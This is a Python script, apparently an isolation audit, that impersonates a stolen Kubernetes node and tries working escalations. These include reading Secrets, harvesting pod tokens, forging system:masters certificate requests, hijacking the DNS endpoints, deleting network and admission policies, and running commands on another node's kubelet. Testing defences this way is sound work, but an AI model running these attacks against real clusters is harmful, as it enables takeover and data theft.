"""Root of a stolen node tries what its node's certificate, its pods' tokens and its place in the network open:
stolen_node.py ORDERS.

ORDERS is JSON: server, node, another, control_plane, pool_label, targets ({name: address:port}), kubelets ({host:
address}), and stated, the accounts whose reading of pods is known. Prints JSON: what was tried, each as {"by", "what",
"found", "open"}. What it writes, in case anything lets it, is named "hostile...".
"""

from __future__ import annotations

import base64
import http.client
import json
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

ORDERS = json.loads(sys.argv[1])
CERTIFICATE = "/var/lib/kubelet/pki/kubelet-client-current.pem"
CA = "/etc/kubernetes/pki/ca.crt"
TOKENS = "pods/*/volumes/kubernetes.io~projected/*/token"
MERGE = "application/merge-patch+json"
RUNNERS, CONTROLLERS, ENGINES = "arc-runners", "arc-systems", "dagger"
SECONDS = 10
ME, ANOTHER, CONTROL_PLANE = ORDERS["node"], ORDERS["another"], ORDERS["control_plane"]
tried: list[dict[str, Any]] = []


def note(by: str, what: str, found: str, is_open: bool) -> None:
    """One attempt."""
    tried.append({"by": by, "what": what, "found": found, "open": is_open})


def call(
    server: str, method: str, path: str, body: Any = None, kind: str = "application/json", token: str = ""
) -> tuple[int, str]:
    """One call to the API, or to a kubelet: as this node, or with a token."""
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False  # a kubelet's certificate is not what is tried here
    if server != ORDERS["server"]:
        context.verify_mode = ssl.CERT_NONE
    headers = {"Content-Type": kind}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    else:
        context.load_cert_chain(CERTIFICATE)
    place = urlsplit(server)
    connection = http.client.HTTPSConnection(str(place.hostname), place.port, timeout=SECONDS, context=context)
    try:
        connection.request(method, path, json.dumps(body) if body is not None else None, headers)
        answer = connection.getresponse()
        return answer.status, answer.read().decode(errors="replace")
    except OSError as error:
        return 0, type(error).__name__
    finally:
        connection.close()


def api(
    by: str, what: str, method: str, path: str, body: Any = None, kind: str = "application/json", token: str = ""
) -> None:
    """An attempt at the API. Refused is what is not allowed, and what a policy does not let through; anything else
    counts as open.
    """
    code, text = call(ORDERS["server"], method, path, body, kind, token)
    refused = code in (401, 403) or (code == 422 and ("ValidatingAdmissionPolicy" in text or "Forbidden" in text))
    try:
        text = json.loads(text).get("message") or ""
    except (ValueError, AttributeError):
        text = text[:200]
    note(by, what, f"{code} {text[:200] if code >= 300 else ''}".strip(), not refused)


def pod(name: str, namespace: str, mirror: bool, labels: dict[str, str], **spec: Any) -> dict[str, Any]:
    """A pod of this node; a mirror pod is what a kubelet tells of a static one."""
    annotations = {"kubernetes.io/config.mirror": "hostile", "kubernetes.io/config.hash": "hostile"} if mirror else {}
    owner = [{"apiVersion": "v1", "kind": "Node", "name": ME, "uid": uid(), "controller": True}]
    meta = {
        "name": name,
        "namespace": namespace,
        "labels": labels,
        "annotations": annotations,
        "ownerReferences": owner if mirror else [],
    }
    container = {"name": "hostile", "image": "registry.k8s.io/pause:3.10"}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": meta,
        "spec": {"nodeName": ME, "containers": [container], **spec},
    }


def uid() -> str:
    """Of this node's Node, which its kubelet may read."""
    return str(json.loads(call(ORDERS["server"], "GET", f"/api/v1/nodes/{ME}")[1])["metadata"]["uid"])


def request(subject: str, addresses: str = "") -> str:
    """A request for a certificate, as base64."""
    key = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", "/dev/null"]
    names = ["-addext", f"subjectAltName={addresses}"] if addresses else []
    made = subprocess.run(["openssl", "req", "-new", *key, "-subj", subject, *names], capture_output=True, check=True)
    return base64.b64encode(made.stdout).decode()


def as_the_node() -> None:
    """With the kubelet's certificate."""
    me = "its kubelet"
    for namespace in ("", RUNNERS, CONTROLLERS, "kube-system", "cert-manager", ENGINES):
        place = f"/namespaces/{namespace}" if namespace else ""
        api(me, f"list Secrets in {namespace or 'all namespaces'}", "GET", f"/api/v1{place}/secrets")
    api(me, "read the controller's Secret", "GET", f"/api/v1/namespaces/{CONTROLLERS}/secrets/controller-manager")
    api(me, "list ConfigMaps of all namespaces", "GET", "/api/v1/configmaps")
    api(me, "list all runners", "GET", f"/api/v1/namespaces/{RUNNERS}/pods")
    api(
        me,
        "list the runners of another node",
        "GET",
        f"/api/v1/namespaces/{RUNNERS}/pods?fieldSelector=spec.nodeName={ANOTHER}",
    )
    api(me, "list the controllers' pods", "GET", f"/api/v1/namespaces/{CONTROLLERS}/pods")
    api(me, "read Runner objects", "GET", f"/apis/actions.summerwind.dev/v1alpha1/namespaces/{RUNNERS}/runners")
    api(me, "read another Node", "GET", f"/api/v1/nodes/{ANOTHER}")
    mine, other = f"/api/v1/nodes/{ME}", f"/api/v1/nodes/{ANOTHER}"
    pool = {"metadata": {"labels": {ORDERS["pool_label"]: "support"}}}
    api(me, "move its node to another pool", "PATCH", mine, pool, MERGE)
    api(
        me,
        "make its node a control plane",
        "PATCH",
        mine,
        {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}},
        MERGE,
    )
    api(me, "take the taints from its node", "PATCH", mine, {"spec": {"taints": []}}, MERGE)
    api(me, "take another pod network", "PATCH", mine, {"spec": {"podCIDR": "10.244.0.0/24"}}, MERGE)
    api(me, "delete its Node, to register anew", "DELETE", mine)
    api(me, "delete another Node", "DELETE", other)
    api(me, "write another Node", "PATCH", other, {"metadata": {"annotations": {"hostile": "yes"}}}, MERGE)
    api(me, "write another Node's status", "PATCH", f"{other}/status", {"status": {"addresses": []}}, MERGE)
    api(
        me,
        "register a second Node",
        "POST",
        "/api/v1/nodes",
        {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "hostile"}},
    )
    lease = {"metadata": {"annotations": {"hostile": "yes"}}}
    leases = "/apis/coordination.k8s.io/v1/namespaces"
    api(me, "keep another node alive", "PATCH", f"{leases}/kube-node-lease/leases/{ANOTHER}", lease, MERGE)
    api(
        me,
        "lead in the controller manager's place",
        "PATCH",
        f"{leases}/kube-system/leases/kube-controller-manager",
        lease,
        MERGE,
    )
    for namespace, name in (
        (CONTROLLERS, "actions-runner-controller"),
        ("kube-system", "default"),
        ("kube-system", "node-controller"),
    ):
        body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        path = f"/api/v1/namespaces/{namespace}/serviceaccounts/{name}/token"
        api(me, f"a token of {namespace}:{name}", "POST", path, body)
    for what, namespace, made in (
        ("a pod", ENGINES, pod("hostile", ENGINES, False, {})),
        (
            "a static pod with the labels of DNS",
            "kube-system",
            pod("hostile", "kube-system", True, {"k8s-app": "kube-dns"}),
        ),
        (
            "a static pod with the labels of the webhook",
            CONTROLLERS,
            pod("hostile", CONTROLLERS, True, {"app.kubernetes.io/name": "actions-runner-controller"}),
        ),
        ("a static pod in the runners' namespace", RUNNERS, pod("hostile", RUNNERS, True, {})),
        (
            "a static pod that names a Secret",
            CONTROLLERS,
            pod(
                "hostile",
                CONTROLLERS,
                True,
                {},
                volumes=[{"name": "s", "secret": {"secretName": "controller-manager"}}],
            ),
        ),
        (
            "a static pod with an account",
            CONTROLLERS,
            pod("hostile", CONTROLLERS, True, {}, serviceAccountName="actions-runner-controller"),
        ),
    ):
        api(me, what, "POST", f"/api/v1/namespaces/{namespace}/pods", made)
    slice_of: dict[str, Any] = {
        "apiVersion": "discovery.k8s.io/v1",
        "kind": "EndpointSlice",
        "addressType": "IPv4",
        "endpoints": [{"addresses": ["192.0.2.1"]}],
    }
    slice_of["metadata"] = {"name": "hostile", "labels": {"kubernetes.io/service-name": "kube-dns"}}
    api(
        me,
        "point the Service of DNS at itself",
        "POST",
        "/apis/discovery.k8s.io/v1/namespaces/kube-system/endpointslices",
        slice_of,
    )
    api(
        me, "write the network's policies", "DELETE", f"/apis/networking.k8s.io/v1/namespaces/{RUNNERS}/networkpolicies"
    )
    api(
        me,
        "take the policies of pools away",
        "DELETE",
        "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies",
    )
    api(
        me,
        "give itself a role",
        "POST",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        {"metadata": {"name": "hostile"}},
    )
    api(
        me,
        "approve a certificate",
        "PUT",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests/hostile/approval",
        {},
    )
    api(me, "run a program on another node", "POST", f"/api/v1/nodes/{ANOTHER}/proxy/run/dagger/x/engine?cmd=id")


def certificates() -> None:
    """What it asks to be signed. A request is an object like any other: what counts is that nobody signs it, now or at
    the next run.
    """
    requests = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
    client, serving = "kubernetes.io/kube-apiserver-client-kubelet", "kubernetes.io/kubelet-serving"
    node_usages = {client: ["client auth", "digital signature"], serving: ["server auth", "digital signature"]}
    wanted = [
        ("another node's certificate", client, f"/O=system:nodes/CN=system:node:{ANOTHER}", ""),
        ("a control plane's certificate", client, f"/O=system:nodes/CN=system:node:{CONTROL_PLANE}", ""),
        ("an administrator's, as a node", client, f"/O=system:masters/CN=system:node:{ME}", ""),
        ("an administrator's", "kubernetes.io/kube-apiserver-client", "/O=system:masters/CN=hostile", ""),
        ("to serve as another node", serving, f"/O=system:nodes/CN=system:node:{ANOTHER}", f"DNS:{ANOTHER}"),
        (
            "to serve at the API's address",
            serving,
            f"/O=system:nodes/CN=system:node:{ME}",
            f"IP:{urlsplit(ORDERS['server']).hostname}",
        ),
    ]
    made = []
    for number, (what, signer, subject, names) in enumerate(wanted):
        spec = {
            "request": request(subject, names),
            "signerName": signer,
            "usages": node_usages.get(signer, ["client auth"]),
        }
        head = {
            "apiVersion": "certificates.k8s.io/v1",
            "kind": "CertificateSigningRequest",
            "metadata": {"name": f"hostile-{number}"},
        }
        code, text = call(ORDERS["server"], "POST", requests, {**head, "spec": spec})
        made.append((what, f"{requests}/hostile-{number}", code, text))
    time.sleep(SECONDS)
    for what, path, code, text in made:
        if code != 201:
            note(
                "its kubelet",
                f"have signed: {what}",
                f"{code} {json.loads(text).get('message', '')[:150]}",
                code not in (401, 403, 422),
            )
            continue
        found = json.loads(call(ORDERS["server"], "GET", path)[1])
        signed = bool(found.get("status", {}).get("certificate"))
        note("its kubelet", f"have signed: {what}", "signed" if signed else "not signed", signed)


def accounts() -> Iterator[tuple[str, str]]:
    """The accounts of this node's pods, each with a token that lies here."""
    found = {}
    for path in Path("/var/lib/kubelet").glob(TOKENS):
        part = path.read_text().split(".")[1]
        claims = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
        found[str(claims["sub"])] = path.read_text()
    yield from sorted(found.items())


def as_its_pods() -> None:
    """With each token that lies on the node."""
    for account, token in accounts():
        short = account.removeprefix("system:serviceaccount:")
        for what, method, path, body in (
            ("list all Secrets", "GET", "/api/v1/secrets", None),
            ("list the controllers' Secrets", "GET", f"/api/v1/namespaces/{CONTROLLERS}/secrets", None),
            ("list all runners", "GET", f"/api/v1/namespaces/{RUNNERS}/pods", None),
            ("end all runners", "DELETE", f"/api/v1/namespaces/{RUNNERS}/pods", None),
            ("make a pod", "POST", "/api/v1/namespaces/kube-system/pods", pod("hostile", "kube-system", False, {})),
            (
                "move its node",
                "PATCH",
                f"/api/v1/nodes/{ME}",
                {"metadata": {"labels": {ORDERS["pool_label"]: "support"}}},
            ),
            (
                "move its node by the status",
                "PATCH",
                f"/api/v1/nodes/{ME}/status",
                {"metadata": {"labels": {ORDERS["pool_label"]: "x"}}},
            ),
            (
                "write another node's status",
                "PATCH",
                f"/api/v1/nodes/{ANOTHER}/status",
                {"metadata": {"annotations": {"hostile": "yes"}}},
            ),
        ):
            if what == "list all runners" and account in ORDERS["stated"]:
                continue
            api(short, what, method, path, body, MERGE if method == "PATCH" else "application/json", token)


def other_kubelets() -> None:
    """The kubelets of other machines, with what lies here. A connection that is not taken is refused as well."""
    tokens = [
        ("its kubelet", ""),
        *((name.removeprefix("system:serviceaccount:"), token) for name, token in accounts()),
    ]
    for host, address in ORDERS["kubelets"].items():
        for by, token in tokens:
            for path in ("/pods", "/metrics", "/configz"):
                code, _text = call(f"https://{address}:10250", "GET", path, token=token)
                note(by, f"{path} of {host}'s kubelet", str(code or "no connection"), code not in (0, 401, 403))


def connects(target: str) -> bool:
    """Whether a connection is taken."""
    host, _colon, port = target.rpartition(":")
    try:
        socket.create_connection((host, int(port)), 3).close()
    except OSError:
        return False
    return True


def network() -> None:
    """From the node's own network, as root."""
    with ThreadPoolExecutor(32) as threads:
        answers = dict(zip(ORDERS["targets"], threads.map(connects, ORDERS["targets"].values()), strict=True))
    for name, taken in answers.items():
        note("its network", f"{name} ({ORDERS['targets'][name]})", "connected" if taken else "no connection", taken)


def left_behind() -> None:
    """What a machine that has joined should not have on its disks."""
    for pattern in (
        "/etc/kubernetes/admin.conf",
        "/etc/kubernetes/super-admin.conf",
        "/etc/kubernetes/bootstrap-kubelet.conf",
        "/root/.ssh/id_*",
    ):
        found = [str(path) for path in Path("/").glob(pattern.lstrip("/"))]
        note("its disk", pattern, ", ".join(found) or "not there", bool(found))


if __name__ == "__main__":
    as_the_node()
    certificates()
    as_its_pods()
    other_kubelets()
    network()
    left_behind()
    print(json.dumps(tried))
